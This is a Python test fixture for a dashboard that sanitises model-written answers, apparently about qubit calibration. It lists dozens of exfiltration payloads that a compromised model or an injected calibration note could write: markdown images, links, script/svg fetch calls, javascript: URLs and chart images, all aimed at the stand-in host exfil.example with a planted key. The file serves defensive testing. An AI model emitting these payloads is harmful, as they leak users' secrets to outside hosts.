"""Answers a compromised model (or a prompt injection in a calibration note) could write.

Each case names words a reader must still see (written by hand, from the answer as a person reads it) and,
for charts, whether the chart must be withheld.  ``EXFIL`` is the host every attack tries to reach; no
request may ever go there (the browser tests also check that nothing leaves for any host but 127.0.0.1).
"""

from __future__ import annotations

from dataclasses import dataclass, field

EXFIL = "exfil.example"
SECRET = "sk-planted-0123456789abcdef"
URL = f"https://{EXFIL}/c?d={SECRET}"
PIXEL = "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="


@dataclass(frozen=True)
class Case:
    name: str
    text: str
    words: tuple[str, ...]
    charts: tuple[dict, ...] = ()
    chart_withheld: bool = False
    app_links: tuple[str, ...] = field(default=())  # links into the app that must stay clickable


def _bar(**layout: object) -> dict:
    return {"data": [{"type": "bar", "x": ["Q00", "Q01"], "y": [41.5, 38.2]}], "layout": {"title": {"text": "T1 by qubit"}, **layout}}


CASES: tuple[Case, ...] = (
    # images
    Case("inline image", f"The T1 map ![chart]({URL})", ("The T1 map", "image removed")),
    Case("image with title", f'Look ![t1 trend]({URL} "T1") here', ("Look", "here", "t1 trend")),
    Case("image alt over 200 chars", "Result: ![" + "a" * 240 + f"]({URL}) end", ("Result:", "end")),
    Case("image alt with newline", f"Before ![line one\nline two]({URL}) after", ("Before", "after", "line one")),
    Case("nested brackets in alt", f"Qubit ![a[b]c]({URL}) ok", ("Qubit", "ok", "a[b]c")),
    Case("escaped bracket in alt", f"Q05 ![a\\]b]({URL}) fine", ("Q05", "fine")),
    Case("reference-style image", f"Drift ![pic][r1] seen\n\n[r1]: {URL}", ("Drift", "seen", "pic")),
    Case("collapsed reference image", f"See ![logo][] now\n\n[logo]: {URL}", ("See", "now", "logo")),
    Case("shortcut reference image", f"See ![logo] now\n\n[logo]: {URL}", ("See", "now", "logo")),
    Case("image inside link", f"[![x]({URL})](https://{EXFIL}/l) T2 echo", ("T2 echo",)),
    Case("protocol-relative image", f"Readout ![r](//{EXFIL}/p.png) fidelity", ("Readout", "fidelity")),
    Case("data URI image", f"Pixel ![p]({PIXEL}) here", ("Pixel", "here")),
    Case("image in table cell", f"| qubit | plot |\n|---|---|\n| Q07 | ![p]({URL}) |", ("qubit", "Q07")),
    Case("image in list", f"- Q01 low\n- ![p]({URL}) Q02 high", ("Q01 low", "Q02 high")),
    Case("image in blockquote", f"> Note from the lab ![p]({URL})", ("Note from the lab",)),
    # links
    Case("inline link", f"Read [the report]({URL}) on T1", ("Read", "the report", "on T1", EXFIL)),
    Case("javascript link", "Click [here](javascript:alert(document.cookie)) now", ("Click", "here", "now")),
    Case("javascript link with entities", "Go [x](&#106;avascript:alert(1)) on", ("Go", "on")),
    Case("data link", f"Open [file]({PIXEL}) ok", ("Open", "file", "ok")),
    Case("vbscript link", "Try [y](vbscript:msgbox(1)) ok", ("Try", "ok")),
    Case("reference link", f"Use [the docs][d] please\n\n[d]: {URL} \"title\"", ("Use", "the docs", "please", EXFIL)),
    Case("autolink", f"Visit <{URL}> today", ("Visit", "today", EXFIL)),
    Case("email autolink", f"Mail <lab@{EXFIL}> today", ("Mail", "today", f"lab@{EXFIL}")),
    Case("bare URL (GFM autolink literal)", f"Details at {URL} and www.{EXFIL}/x", ("Details at", EXFIL)),
    Case("bare e-mail", f"Write to lab@{EXFIL} soon", ("Write to", "soon")),
    Case("app link kept", "See the [heatmap](/heatmap) and [timeseries](/timeseries?chip=64Qv3)",
         ("See the", "heatmap", "timeseries"), app_links=("/heatmap", "/timeseries?chip=64Qv3")),
    # the parser percent-encodes the backslash (/%5C...): a path on the app's own origin, but once decoded it
    # is "/\\host", which a browser reads as "//host": refused, shown as text
    Case("backslash-host link", f"Open [p](/\\{EXFIL}/x) now", ("Open", "now", f"%5C{EXFIL}/x")),
    Case("link with mixed-case scheme", f"Open [p](HtTpS://{EXFIL}/x) now", ("Open", "now", EXFIL)),
    # raw HTML and entities
    Case("raw img tag", f'Chip ok <img src="{URL}"> done', ("Chip ok", "done")),
    Case("html block", f'<div>\n<img src="{URL}">\n<iframe src="{URL}"></iframe>\n</div>\n\nT1 fine', ("T1 fine",)),
    Case("script tag", "Before <script>fetch('https://exfil.example')</script> after", ("Before", "after")),
    Case("svg onload", "Q03 <svg onload=\"fetch('//exfil.example')\"></svg> ok", ("Q03", "ok")),
    Case("entity-encoded image", f"&#33;&#91;x&#93;&#40;{URL}&#41; stays text", ("stays text",)),
    Case("entity-encoded tag", f"&lt;img src=\"{URL}\"&gt; stays text", ("stays text",)),
    Case("css url", f"<span style=\"background:url({URL})\">T1</span> ok", ("T1", "ok")),
    Case("streamlit directives", f":red[alert] :material/warning: $x$ :smile: [x]({URL})", ("alert",)),
    # look-alikes and long lines
    Case("fullwidth brackets", f"！［x］（{URL}） fine", ("fine",)),
    Case("zero-width inside scheme", f"[a](ht\u200btps://{EXFIL}/x) fine", ("fine",)),
    Case("bidi override", f"Q09 \u202e[x]({URL}) ok", ("Q09", "ok")),
    # numbered words: one word over and over is a model repeating itself, stopped before it reaches a page
    Case("very long line", "T1 " + "".join(f"word{i}-" * 8 + " " for i in range(500)) + f"![x]({URL}) end",
         ("T1", "end")),  # 30 kB on one line in 500 words: within a local server's output cap
    Case("very long URL", f"Big ![x](https://{EXFIL}/" + "a" * 20000 + ") end", ("Big", "end")),
    Case("code keeps its text", f"Run `![x]({URL})` then\n\n```\n<img src=\"{URL}\">\n```", ("Run", "then")),
    # charts
    Case("chart with layout image", "Chart below.", ("Chart below.",),
         charts=(_bar(images=[{"source": URL, "xref": "paper", "yref": "paper", "x": 0, "y": 1,
                               "sizex": 1, "sizey": 1}]),), chart_withheld=True),
    Case("chart with protocol-relative image", "Chart below.", ("Chart below.",),
         charts=(_bar(images=[{"source": f"//{EXFIL}/i.png"}]),), chart_withheld=True),
    Case("chart hover text with link", "Hover the bars.", ("Hover the bars.",),
         charts=({"data": [{"type": "bar", "x": ["Q00"], "y": [1.0],
                            "hovertext": [f"<a href='{URL}'>open</a>"]}], "layout": {}},), chart_withheld=True),
    Case("chart hovertemplate with link", "Hover again.", ("Hover again.",),
         charts=({"data": [{"type": "bar", "x": ["Q00"], "y": [1.0],
                            "hovertemplate": f"<a href=\"{URL}\">%{{y}}</a>"}], "layout": {}},), chart_withheld=True),
    Case("chart template with image", "Templated chart.", ("Templated chart.",),
         charts=(_bar(template={"layout": {"images": [{"source": URL}]}}),), chart_withheld=True),
    Case("chart title with javascript", "Titled chart.", ("Titled chart.",),
         charts=(_bar(title={"text": "<a href='javascript:alert(1)'>T1</a>"}),), chart_withheld=True),
    Case("chart annotation link", "Annotated chart.", ("Annotated chart.",),
         charts=(_bar(annotations=[{"text": f"see {URL}", "x": 0, "y": 0}]),), chart_withheld=True),
    Case("chart with data image is drawn", "Embedded logo.", ("Embedded logo.",),
         charts=(_bar(images=[{"source": PIXEL, "xref": "paper", "yref": "paper", "x": 0, "y": 1,
                               "sizex": 0.1, "sizey": 0.1}]),)),
    Case("safe chart is drawn", "T1 by qubit.", ("T1 by qubit.",), charts=(_bar(),)),
)

BROWSER_CASES: tuple[str, ...] = (
    "inline image", "nested brackets in alt", "image alt over 200 chars", "reference-style image",
    "image inside link", "protocol-relative image", "raw img tag", "html block", "entity-encoded image",
    "css url", "bare URL (GFM autolink literal)", "reference link", "chart with layout image",
    "chart template with image", "very long URL", "app link kept",
)
